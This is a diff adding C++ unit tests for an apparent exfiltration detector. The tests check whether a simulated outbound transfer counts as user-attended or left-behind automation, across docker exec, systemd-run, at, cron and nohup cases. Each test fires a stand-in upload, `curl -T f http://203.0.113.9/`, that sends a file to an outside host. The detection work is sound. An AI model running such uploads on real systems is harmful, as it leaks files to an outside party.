@@ -1,0 +1,163 @@
+#include "host_with_cron.hpp"
+
+/// Work that a daemon forks for a person who typed the command for it.
+namespace auexfil::test {
+namespace {
+
+constexpr int kInit = 1;
+
+/// A person's shell on pts0, and a command typed at it.
+void type(CronHost& log, const std::string& exe, const std::vector<std::string>& argv) {
+  const int shell = log.person(CronHost::kSshd, 500, 5);
+  log.run(shell, 510, exe, argv);
+}
+
+/// The daemon starts a program, on a terminal or not. \return its pid.
+int start(CronHost& log, int daemon, const std::string& exe, const std::vector<std::string>& argv,
+          const std::string& tty = "(none)", std::uint32_t uid = 0) {
+  log.fork(daemon, 800);
+  log.who(800) = {daemon, log.who(daemon).exe, log.who(daemon).comm, tty, kUnset, uid, kUnset};
+  log.exec(800, exe, argv);
+  return 800;
+}
+
+facts::Fact curl(CronHost& log, int parent) {
+  const int curl =
+      log.run(parent, 810, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(curl, 3, kDrop, 80);
+  log.send(curl, 3, 150);
+  log.send(curl, 3, 65536);
+  log.done(curl);
+  return of_pid(tell(log), curl);
+}
+
+std::string signs_of(const facts::Fact& fact) {
+  std::string text = to_word(fact.automation);
+  for (const facts::Reason& reason : fact.reasons) {
+    text += " " + reason.sign;
+  }
+  return text;
+}
+
+}  // namespace
+
+TEST_CASE("brokers: docker exec -it of a person") {
+  CronHost log;
+  const int shim = log.daemon(700, "/usr/bin/containerd-shim-runc-v2");
+  type(log, "/usr/bin/docker", {"docker", "exec", "-it", "web", "bash"});
+  const int bash = start(log, shim, "/usr/bin/bash", {"bash"}, "pts0");
+  const facts::Fact fact = curl(log, bash);
+  CHECK(signs_of(fact) == "attended asked-for");
+  CHECK(fact.reasons[0].text.find("docker exec -it web bash") != std::string::npos);
+  CHECK(fact.reasons[0].event);
+}
+
+TEST_CASE("brokers: only a terminal in sight, of a container or a service") {
+  CronHost log;
+  SECTION("container") {
+    const int shim = log.daemon(700, "/usr/bin/containerd-shim-runc-v2");
+    CHECK(signs_of(curl(log, start(log, shim, "/usr/bin/bash", {"bash"}, "pts0"))) ==
+          "unknown terminal-asked-for");
+  }
+  SECTION("service") {
+    CHECK(signs_of(curl(log, start(log, kInit, "/usr/bin/bash", {"-bash"}, "pts4"))) ==
+          "unknown terminal-asked-for");
+  }
+}
+
+TEST_CASE("brokers: systemd-run -t") {
+  const std::string option = GENERATE("-t", "--pty", "-tq");
+  CAPTURE(option);
+  CronHost log;
+  type(log, "/usr/bin/systemd-run", {"systemd-run", option, "bash", "-l"});
+  CHECK(signs_of(curl(log, start(log, kInit, "/usr/bin/bash", {"/usr/bin/bash", "-l"}, "pts4"))) ==
+        "attended asked-for");
+}
+
+TEST_CASE("brokers: what is set apart from the terminal that was asked for is left behind") {
+  CronHost log;
+  type(log, "/usr/bin/systemd-run", {"systemd-run", "-t", "bash"});
+  const int bash = start(log, kInit, "/usr/bin/bash", {"bash"}, "pts4");
+  log.fork(bash, 805);
+  log.setsid(805);
+  CHECK(signs_of(curl(log, 805)) == "unattended asked-for left-behind");
+}
+
+TEST_CASE("brokers: systemctl start of a person") {
+  CronHost log;
+  type(log, "/usr/bin/systemctl", {"systemctl", "start", "backup.service"});
+  SECTION("the unit is in what was started") {
+    CHECK(signs_of(curl(log, start(log, kInit, "/usr/bin/bash",
+                                   {"/bin/bash", "/usr/local/bin/backup.sh"}))) ==
+          "attended asked-for");
+  }
+  SECTION("it is not: somebody else's job may begin at that moment") {
+    CHECK(signs_of(curl(log, start(log, kInit, "/opt/evil", {"/opt/evil"}))) ==
+          "unknown perhaps-asked-for");
+  }
+  SECTION("long after") {
+    log.pass(60'000);
+    CHECK(
+        signs_of(curl(log, start(log, kInit, "/usr/local/bin/backup", {"backup"}))).substr(0, 18) ==
+        "unattended service");
+  }
+}
+
+TEST_CASE("brokers: at now, at 03:00") {
+  CronHost log;
+  const int atd = log.daemon(700, "/usr/sbin/atd");
+  const std::string when = GENERATE("now", "03:00");
+  CAPTURE(when);
+  type(log, "/usr/bin/at", {"at", when});
+  log.pass(when == "now" ? 500 : 3'600'000);
+  const int job = start(log, atd, "/usr/bin/dash", {"/bin/sh"}, "(none)", 1000);
+  const facts::Fact fact = curl(log, job);
+  CHECK(signs_of(fact) ==
+        (when == "now" ? "attended asked-for" : "unattended at no-terminal left-behind"));
+}
+
+TEST_CASE("brokers: systemd-run --on-calendar is left to run, and says who asked") {
+  CronHost log;
+  type(log, "/usr/bin/systemd-run",
+       {"systemd-run", "--on-calendar=03:00", "/usr/local/bin/send", "all"});
+  log.pass(3'600'000);
+  CHECK(signs_of(
+            curl(log, start(log, kInit, "/usr/local/bin/send", {"/usr/local/bin/send", "all"}))) ==
+        "unattended service no-terminal left-behind");
+}
+
+TEST_CASE("brokers: a job of cron's asks for nobody") {
+  CronHost log;
+  const int job = log.job("docker exec -it web bash");
+  log.who(job).tty = "pts9";
+  log.run(job, job + 5, "/usr/bin/docker", {"docker", "exec", "-it", "web", "/opt/send"});
+  const int shim = log.daemon(700, "/usr/bin/containerd-shim-runc-v2");
+  const facts::Fact fact = curl(log, start(log, shim, "/opt/send", {"/opt/send"}, "pts0"));
+  CHECK(fact.automation == transfer::Verdict::unattended);
+}
+
+TEST_CASE("brokers: script under a service makes terminals that nobody asked for") {
+  CronHost log;
+  const int service = log.daemon(700, "/opt/service");
+  const int script = log.run(service, 710, "/usr/bin/script", {"script", "-qc", "bash"});
+  const facts::Fact fact = curl(log, start(log, script, "/usr/bin/bash", {"bash"}, "pts7"));
+  CHECK(fact.automation == transfer::Verdict::unattended);
+}
+
+TEST_CASE("people: nohup and logout: what goes on is left behind") {
+  CronHost log;
+  const int shell = log.person(CronHost::kSshd, 500, 5);
+  const int curl = log.run(shell, 510, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(curl, 3, kDrop, 80);
+  log.send(curl, 3, 150);
+  const bool leaves = GENERATE(true, false);
+  CAPTURE(leaves);
+  log.user("USER_END", leaves ? 500 : 510, "PAM:session_close", "ssh");
+  log.pass(300'000);
+  log.send(curl, 3, 65536);
+  log.done(curl);
+  CHECK(signs_of(one(log)) ==
+        (leaves ? "unattended interactive-shell left-behind" : "attended interactive-shell"));
+}
+
+}  // namespace auexfil::test
